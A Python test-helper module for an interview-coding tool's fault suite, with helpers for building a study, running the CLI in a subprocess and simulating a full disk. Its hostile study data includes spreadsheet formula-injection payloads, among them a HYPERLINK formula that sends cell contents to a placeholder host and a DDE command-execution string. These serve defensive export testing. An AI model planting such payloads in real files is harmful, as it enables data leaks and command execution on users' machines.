"""Helpers for the fault suite: a hostile little study, the CLI in a subprocess, a small
full disk (tmpfs where this machine lets us mount one, else RLIMIT_FSIZE), and a check
that a refused operation changed nothing."""
from __future__ import annotations

import contextlib
import os
import shutil
import sqlite3
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

from codebook import Study
from codebook.models import SPEAKER_INTERVIEWER, SPEAKER_PARTICIPANT, NewSegment

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A2,"Click")', "+1+2", "-3-4", "@SUM(A1)",
            "\tTAB", "\rCR"]


def build_hostile_study(path, *, pseudonym: str = "=cmd|' /C calc'!A0") -> Study:
    """A study whose names, pseudonyms and attribute values are formulas, with one coded quote each."""
    study = Study.create(path, name="hostile")
    p = study.participants.add(pseudonym, attributes={"نقش": "=1+1", "@role": "-2"})
    iv = study.interviews.add(p.id, title="+title", date="2021-05-03")
    study.transcripts.add_segments(iv.id, [NewSegment(0, 2000, "=HYPERLINK(\"http://x\")", SPEAKER_INTERVIEWER),
                                           NewSegment(2100, 5000, "-متن مشارکت‌کننده", SPEAKER_PARTICIPANT)])
    cat = study.codes.add_category(FORMULAS[0])
    segs = study.transcripts.segments(iv.id)
    for k, name in enumerate(FORMULAS[1:]):
        code = study.codes.add(name, cat.id)
        seg = segs[k % 2]
        study.codings.add(code.id, seg.id, 0, seg.id, 3, memo="=memo")
    return study


def cli(*args, env: dict | None = None, preexec_fn=None, timeout: float = 120) -> subprocess.CompletedProcess:
    """``mosahebeh ARGS`` in a fresh interpreter (as a user runs it)."""
    e = {**os.environ, "PYTHONPATH": str(ROOT), "QT_QPA_PLATFORM": "offscreen"}
    e.pop("MOSAHEBEH_DEBUG", None)
    e.update(env or {})
    return subprocess.run([sys.executable, "-c", "import sys; from desktop.cli import main; sys.exit(main())",
                           *map(str, args)], capture_output=True, text=True, env=e, timeout=timeout,
                          preexec_fn=preexec_fn, cwd=str(ROOT))


def assert_one_sentence(result: subprocess.CompletedProcess, *words: str) -> str:
    """rc 2, no traceback, one line on stderr starting with 'mosahebeh: ' and holding ``words``."""
    err = result.stderr.strip()
    assert result.returncode == 2, (result.returncode, result.stdout, err)
    assert "Traceback" not in result.stderr and "Exception ignored" not in result.stderr, err
    assert err.startswith("mosahebeh: ") and "\n" not in err, err
    for w in words:
        assert w.lower() in err.lower(), err
    return err


def snapshot(folder) -> dict:
    """Row counts of every table, after ``pragma integrity_check`` says ok."""
    db = Path(folder) / "study.db"
    conn = sqlite3.connect(f"{db.resolve().as_uri()}?mode=ro", uri=True)
    try:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table' "
                                             "AND name NOT LIKE 'sqlite_%' AND sql NOT LIKE '%VIRTUAL%'")]
        return {t: conn.execute(f'SELECT COUNT(*) FROM "{t}"').fetchone()[0] for t in tables}
    finally:
        conn.close()


def _can_mount() -> bool:
    if not hasattr(os, "geteuid") or os.geteuid() != 0 or not shutil.which("mount"):
        return False
    probe = Path("/tmp") / f"mosahebeh-probe-{uuid.uuid4().hex[:8]}"
    probe.mkdir()
    try:
        ok = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(probe)],
                            capture_output=True).returncode == 0
        if ok:
            subprocess.run(["umount", str(probe)], check=True)
        return ok
    finally:
        probe.rmdir()


CAN_MOUNT = _can_mount()


@contextlib.contextmanager
def small_disk(size: str = "2m"):
    """A folder on a tmpfs of ``size``: a disk that really fills up."""
    if not CAN_MOUNT:
        pytest.skip("mounting a small tmpfs needs root here; the RLIMIT_FSIZE tests cover a full disk instead")
    folder = Path("/tmp") / f"mosahebeh-disk-{uuid.uuid4().hex[:8]}"
    folder.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder)], check=True)
    try:
        yield folder
    finally:
        subprocess.run(["umount", "-l", str(folder)], check=False)
        folder.rmdir()


def fill(folder: Path, leave: int = 0) -> None:
    """Fill the disk holding ``folder``, leaving about ``leave`` bytes free."""
    with open(folder / "filler", "wb", buffering=0) as f:
        chunk = b"\1" * 4096
        try:
            while True:
                f.write(chunk)
        except OSError:
            pass
    if leave:
        size = (folder / "filler").stat().st_size
        os.truncate(folder / "filler", max(0, size - leave))


def remount_read_only(folder: Path) -> None:
    subprocess.run(["mount", "-o", "remount,ro", str(folder)], check=True)


def fsize_limit(nbytes: int):
    """A preexec_fn limiting the files the child writes to ``nbytes`` (EFBIG beyond, SIGXFSZ ignored)."""
    def apply():
        import resource
        import signal

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (nbytes, nbytes))
    return apply
